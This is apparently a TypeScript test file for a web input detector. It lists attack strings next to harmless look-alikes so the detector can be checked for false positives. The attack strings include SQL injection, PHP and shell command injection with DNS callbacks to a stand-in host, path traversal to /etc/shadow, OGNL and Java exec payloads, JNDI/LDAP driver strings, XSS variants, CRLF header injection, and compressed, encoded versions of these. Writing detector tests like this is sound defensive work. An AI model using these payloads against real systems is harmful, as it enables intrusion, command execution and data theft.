import { deflateSync, gzipSync } from 'node:zlib';
import { detectors } from './detectors.ts';
import { asAgents, type Family, testFamilies } from './testing/families.ts';
import { createValueInspector } from './testing/value.ts';

const packed = (text: string): string => gzipSync(text).toString('base64');
const deflated = (text: string, level: number): string => deflateSync(text, { level }).toString('base64');

/** Attacks within addresses, behind every quote and in parted steps, each family with what honest pages, formulas and remarks look like. */
const families: readonly Family[] = [
  [
    'sql: in the folder of an address, and joined by plus signs',
    [
      "http://shop.example.com/'+(select*from(select(sleep(9)))q)+'",
      "https://m.example.org/list/' and 5=5-- ",
      "https://m.example.org/'(select*from(select(sleep(9)))q)'",
      'word+UNION+ALL+SELECT+NULL+--+',
    ],
    [
      "https://m.example.org/list/'",
      "'https://m.example.org/list/' + id",
      "https://m.example.org/it's-here",
      'a+union+of+all+teams',
      'AAAA+union+BBBBcc',
    ],
  ],
  [
    'php: a call between the strings of an application',
    ["'.sleep(9).'", '".usleep(900000)."', "http://shop.example.com/'.sleep(9).'", `'.gethostbyname("q1.names.example.com").'`],
    ["'.date('Y').'", "echo 'a'.gethostbyname($host).'b'", "'.' 和 sleep(9) 都试过", "a = 'x.sleep(9).y'"],
  ],
  [
    'paths: parted steps, what precedes a path, and null bytes behind folders with spaces',
    [
      '. . /. . /. . /. . /etc/hosts',
      '. . \\. . \\. . \\windows\\win.ini',
      '/file:///etc/hosts',
      '    /WEB-INF/classes/shop/Main.class',
      '   /etc/shadow',
      'C:/Program Files/apache group/Apache/conf/httpd.conf%00',
    ],
    [
      '稍等. . . 马上来',
      'loading . . . 50/100',
      'a . . / . . b',
      '/profile/file',
      '  /pages/index/index',
      'C:/Program Files/Example App/readme',
    ],
  ],
  [
    'shell: an end to whatever quote, and answers that become part of a name',
    [
      `nslookup q1.names.example.com&'\\"\`0&nslookup q1.names.example.com&\`'`,
      `a|'"\`|ping q1.names.example.com`,
      'ping `whoami`.q1.names.example.com',
      '`hostname`.q1.names.example.com',
      '; \\ln -s /etc/shadow x',
    ],
    [
      `"it's" & 'so'`,
      '函数 $f(x)=\\frac{1}{3} ; \\ln 3$ 的值',
      '模块说明\n * @author <a href="https://example.com/w">W</a>\n@date 2024/9/13',
      '`whoami` 命令',
      '请运行 `hostname`。然后截图',
    ],
  ],
  [
    'compressed, and then in Base64',
    [
      packed("q' or 5=5-- "),
      packed('<script>alert(5)</script>'),
      packed(JSON.stringify({ page: 1, file: '../../../../etc/shadow' })),
      ...[1, 5, 6, 9].map((level) => deflated('{{7*8}}<img src=q onerror=alert(5)>', level)),
      Buffer.from(packed(';cat /etc/shadow')).toString('base64'),
    ],
    [
      packed('pages/index/index 加载失败，请稍后再试。'.repeat(40)),
      deflated('order-20260701-0042', 6),
      'eJxIsNoCompressedData0123456789',
      'H4sIAAAAbrokenbrokenbroken',
      'eNotARealValueAtAll0123456789',
    ],
  ],
  [
    'addresses in backticks, and commands called like files',
    [
      'http://localhost:8090/console',
      '`http://169.254.169.254/latest/meta-data/',
      'passwd',
      '请处理 http://localhost:8090/console',
    ],
    [
      '- `http://localhost:8090/console`\n- `http://localhost:8090/uc`',
      '不能直接使用 `http://localhost',
      '不能直接使用 `http://localhost:8090/console` 访问页面',
      '### passwd\n修改root密码：passwd root',
      '示例：\n```\nwx.downloadFile({ url, success(res) { open(res.tempFilePath) } })\n```',
      '云存储\n    wx.cloud.downloadFile({ fileID: id })',
      '点击后调用\n  uni.downloadFile({ url: href })\n没有反应',
    ],
  ],
  [
    'agents: what Java is told to do',
    asAgents([
      "%{(#a=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#a).(#c='id')}",
      'Mozilla/5.0 %{(#a=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#b=1)}',
      'java.lang.Runtime.getRuntime().exec("id")',
    ]),
    asAgents([
      'Java/21.0.2',
      'com.example.shop/4.2 (Linux; Android 14) okhttp/4.12.0',
      'Apache-HttpClient/5.3 (Java/17.0.9) org.apache.http.impl',
      '%{User-Agent}i',
      '%{HTTP_USER_AGENT}',
      'ExampleApp/100%{beta}',
    ]),
  ],
  [
    'script: a remark that a line break ends, in a link of Markdown',
    ['[文档](javascript://www.example.com%0Aprompt(7))', '[x](javascript://x\nalert(7))'],
    ['[文档](https://www.example.com/a%0Ab)', '// javascript://x 不是地址\n下一行 (说明)'],
  ],
  [
    'java: a database driver that looks a name up',
    ['jdbc:jcr:jndi:ldap://q1.names.example.com:1389/Q', 'jdbc:x:jndi:rmi://q1.names.example.com/Q'],
    ['jdbc:mysql://db.example.com:3306/shop', 'jdbc:h2:mem:test', 'jndi:ldap 查询失败'],
  ],
  [
    'pages: drawings that point to themselves, pictures that load later, players, and recorded exchanges',
    [
      '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
      '<svg><use href="//x.example/a.svg#q" xlink:href="//x.example/a.svg#q"></use></svg>',
      '<div datasrc="#q" datafld="m" dataformatas="html">',
      '<img lowsrc="javascript:alert(7)">',
      '<iframe src="//www.dailymotion.com.x.example/embed/video/q"></iframe>',
      '1\r\nSet-Cookie: q=1',
    ],
    [
      '<p>播放</p><svg width="12"><symbol id="play"><path d="M0 0"></path></symbol></svg><svg><use xlink:href="#play"></use></svg>',
      '<p>图</p><p><img src="//img.example.com/s.jpg" datasrc="https://img.example.com/l.jpg"></p>',
      '<p>视频</p><iframe src="//www.dailymotion.com/embed/video/x2p" frameborder="0" width="534"></iframe>',
      '<p>过程</p><pre>GET /a HTTP/1.1\nHost: a.example.com\n\nHTTP/1.1 412 Precondition Failed</pre><p>完</p>',
    ],
  ],
];

testFamilies(families, createValueInspector(detectors));
